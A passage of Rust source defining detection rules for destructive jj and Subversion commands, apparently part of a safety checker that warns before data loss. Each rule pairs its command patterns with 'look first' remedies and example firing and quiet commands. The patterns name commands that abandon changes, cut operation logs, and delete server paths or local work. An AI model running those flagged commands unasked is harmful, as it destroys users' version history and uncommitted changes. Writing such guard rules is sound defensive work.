        message: "changes are abandoned, or the log with which they are found again is cut",
        remedy: "look first: `jj op log`; `jj undo` takes the last step back",
        when: When::Command(&[
            "jj abandon",
            "jj op|operation abandon|restore",
            "jj util gc --expire",
            "jj git push --deleted|--all",
        ]),
        confidence: Confidence::Medium,
        fires: &["jj abandon @", "jj op abandon ..@-"],
        quiet: &["jj log", "jj new", "jj op log"],
        ..Rule::LOSS
    },
    Rule {
        id: "svn.server.delete",
        message: "a path is deleted in the repository on the server, or local changes are thrown away",
        remedy: "look first: `svn status`, `svn log URL`",
        when: When::Command(&[
            "svn delete|del|rm|remove … *://*",
            "svn delete|del|rm|remove -m|--message|-F",
            "svn revert -R|--recursive",
            "svn cleanup --remove-unversioned|--remove-ignored",
            "svnadmin rmtxns|rmlocks|setrevprop|dump --delete",
        ]),
        fires: &[
            "svn rm https://svn.example.com/repo/trunk -m x",
            "svn revert -R .",
            "svn cleanup --remove-unversioned",
        ],
        quiet: &["svn rm file.txt", "svn status", "svn cleanup", "svn update"],
        ..Rule::LOSS
    },
];
